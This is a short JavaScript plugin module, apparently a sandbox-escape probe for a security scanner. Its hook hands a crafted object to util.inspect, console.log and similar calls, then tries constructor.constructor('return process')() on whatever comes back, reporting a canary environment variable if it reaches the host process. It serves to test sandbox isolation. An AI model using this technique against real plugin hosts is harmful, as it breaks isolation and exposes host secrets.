// Objects that describe themselves when they are shown are handed the means of whoever shows them.
const got = [];
/** Keeps the proof when a value leads to the host's process. */
function look(value) {
  const ways = [
    (v) => v,
    (v) => v.constructor('return process')(),
    (v) => v.constructor.constructor('return process')(),
  ];
  for (const way of ways) {
    try {
      const found = way(value);
      if (found && found.versions && found.env) got.push(found.env.SECSCAN_CANARY);
    } catch {}
  }
}
const verdict = () => (got.length > 0 ? { escaped: true, proof: { canary: String(got[0]) } } : { escaped: false });
module.exports.hooks = {
  'file:process': async function (input, ctx) {
    const util = require('util');
    const sly = {
      [Symbol.for('nodejs.util.inspect.custom')](depth, options, inspect) {
        look(options);
        look(options?.stylize);
        look(inspect);
        return 'x';
      },
    };
    for (const act of [
      () => util.inspect(sly),
      () => util.format('%o %s', sly, sly),
      () => ctx.log.info(sly),
      () => console.log(sly),
      () => util.promisify(sly),
      () => util.inherits(sly, sly),
    ])
      try {
        look(act());
      } catch (error) {
        look(error);
      }
    look(util);
    for (const each of Object.values(util)) look(each);
    return { metadata: verdict() };
  },
};
